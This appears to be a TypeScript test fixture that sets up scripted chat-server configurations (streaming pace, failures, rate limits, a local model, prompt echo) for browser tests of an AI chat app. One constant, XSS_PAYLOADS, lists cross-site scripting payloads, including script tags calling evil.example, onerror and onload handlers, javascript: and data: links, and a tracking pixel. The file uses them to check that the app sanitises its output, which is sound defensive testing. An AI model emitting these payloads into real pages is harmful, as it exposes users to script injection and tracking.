// The server configurations the specs run against. A spec picks one with
// `test.use(SERVERS.x)`; specs with the same configuration can share a worker and its server.

import type { ServerEnv } from './server';

/** Plain prose (no markdown), so what the page shows can be compared with what was stored. */
export const PROSE =
  'Server-Sent Events keep one HTTP response open and send each piece of the answer the ' +
  "moment the model writes it. Your browser's EventSource reads the pieces in order; if the " +
  'connection drops, it reconnects with the id of the last event it saw, and the server ' +
  'carries on from exactly there.\n\n' +
  'That is why this reply appears word by word, and why nothing is lost or repeated when the ' +
  'network hiccups.';

/** Model output that tries every way in: each must end up as text, or be stripped. */
export const XSS_PAYLOADS = [
  'Here is what you asked for:',
  '<script>window.__pwned = "script"; fetch("http://evil.example/script")</script>',
  "<img src=x onerror=\"window.__pwned='img'; alert('img')\">",
  "<svg onload=\"window.__pwned='svg'\"><script>window.__pwned='svg-script'</script></svg>",
  "[a javascript link](javascript:window.__pwned='link';alert(1))",
  "[an encoded javascript link](jav&#x61;script:alert('encoded'))",
  "![an image with a script](javascript:window.__pwned='image')",
  '![a tracking pixel](http://evil.example/pixel.png)',
  '<a href="javascript:window.__pwned=\'anchor\'">a raw anchor</a>',
  '<iframe src="javascript:window.__pwned=\'iframe\'"></iframe>',
  '[a data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '<details open ontoggle="window.__pwned=\'details\'">details</details>',
  '[a safe link](https://example.com/docs)',
  'That is all.',
].join('\n\n');

/** The python block of CODE_ANSWER: Python with one line far wider than any screen. */
export const CODE_PYTHON =
  'def greet(name: str) -> str:\n' +
  '    """Say hello, at length."""\n' +
  `    message = "${'a very long line that scrolls sideways '.repeat(8).trim()}"\n` +
  '    return f"Hello, {name}! {message}"';

/** A python block, then a bash block in a list: for the code blocks' labels, colours and Copy. */
export const CODE_ANSWER =
  'Here is a function that greets someone:\n\n' +
  `\`\`\`python\n${CODE_PYTHON}\n\`\`\`\n\n` +
  'To try it:\n\n' +
  '1. Save it as `greet.py`.\n' +
  '2. Run it:\n\n' +
  '   ```bash\n' +
  '   python3 -c \'from greet import greet; print(greet("Ada"))\'\n' +
  '   ```';

/**
 * Numbered words ("w1 w2 … w120"): in a page showing part of the answer, a word missing or
 * doubled is plain to see (the shown text is not a prefix of this).
 */
export const COUNTED_WORDS = Array.from({ length: 120 }, (_, i) => `w${i + 1}`).join(' ');

function config(serverName: string, serverEnv: ServerEnv) {
  return { serverName, serverEnv };
}

export const SERVERS = {
  /** Paced so streaming is visible: ~70 chunks, ~3 s an answer. */
  default: config('default', { SCRIPTED_TEXT: PROSE, SCRIPTED_CHUNK_DELAY_S: '0.04' }),
  /** Onboarding replies that read like one, paced so each turn visibly streams (~2 s). */
  onboarding: config('onboarding', {
    SCRIPTED_TEXT: 'Thank you, that is really helpful to know.',
    SCRIPTED_CHUNK_DELAY_S: '0.2',
  }),
  /** Long answers (~12 s), for checks that must run while an answer is still streaming. */
  slow: config('slow', {
    SCRIPTED_TEXT: PROSE,
    SCRIPTED_CHUNKS: '240',
    SCRIPTED_CHUNK_DELAY_S: '0.05',
  }),
  /** Answers of 120 numbered words, ~10 s each, to reload, share and leave while written. */
  durable: config('durable', { SCRIPTED_TEXT: COUNTED_WORDS, SCRIPTED_CHUNK_DELAY_S: '0.08' }),
  /** The same answers slower (~20 s), for a drawer or a second tab to look at while written. */
  durableSlow: config('durable-slow', {
    SCRIPTED_TEXT: COUNTED_WORDS,
    SCRIPTED_CHUNK_DELAY_S: '0.16',
  }),
  /** The same answers, and one message an hour per user: at the limit once it is sent. */
  durableAtLimit: config('durable-at-limit', {
    SCRIPTED_TEXT: COUNTED_WORDS,
    SCRIPTED_CHUNK_DELAY_S: '0.08',
    RATE_LIMIT_MESSAGES_PER_HOUR: '1',
  }),
  /** The first two answers fail after 8 chunks; later ones succeed. */
  failing: config('failing', {
    SCRIPTED_TEXT: PROSE,
    SCRIPTED_CHUNK_DELAY_S: '0.03',
    SCRIPTED_FAIL_AFTER: '8',
    SCRIPTED_FAIL_TIMES: '2',
  }),
  /** Streaming switched off: answers come whole from POST /chat/message. */
  noStreaming: config('no-streaming', {
    SCRIPTED_TEXT: PROSE,
    SCRIPTED_CHUNK_DELAY_S: '0.03',
    ENABLE_STREAMING: 'false',
  }),
  /**
   * The real local model (SmolLM2-135M on llama.cpp), kept short. Loading it and reading the
   * prompt can take longer than the 30 s idle timeout on a busy machine: allow more.
   */
  localModel: config('local-model', {
    LLM_MODEL: 'local',
    LLM_MAX_TOKENS: '24',
    // Two llama.cpp threads on two cores shared with Chromium and another server crawl.
    LOCAL_MODEL_THREADS: '1',
    STREAM_IDLE_TIMEOUT_S: '150',
  }),
  /** The model answers with its system prompt: what settings saved shows in the answer. */
  promptEcho: config('prompt-echo', {
    SCRIPTED_ECHO_PROMPT: 'true',
    SCRIPTED_CHUNK_DELAY_S: '0.01',
  }),
  /** Answers with a fenced python block (~2 s). */
  code: config('code', { SCRIPTED_TEXT: CODE_ANSWER, SCRIPTED_CHUNK_DELAY_S: '0.02' }),
  /** A model slow to start: each of its three words takes 4.5 s ("Still thinking" shows). */
  slowFirstWord: config('slow-first-word', {
    SCRIPTED_TEXT: 'Thought it through.',
    SCRIPTED_CHUNK_DELAY_S: '4.5',
  }),
  /** One message an hour per user. */
  rateLimited: config('rate-limited', {
    SCRIPTED_TEXT: 'Noted. That was your one message for this hour.',
    SCRIPTED_CHUNK_DELAY_S: '0.02',
    RATE_LIMIT_MESSAGES_PER_HOUR: '1',
  }),
  /** Model output full of script injection attempts. */
  xss: config('xss', { SCRIPTED_TEXT: XSS_PAYLOADS, SCRIPTED_CHUNK_DELAY_S: '0.01' }),
} as const;
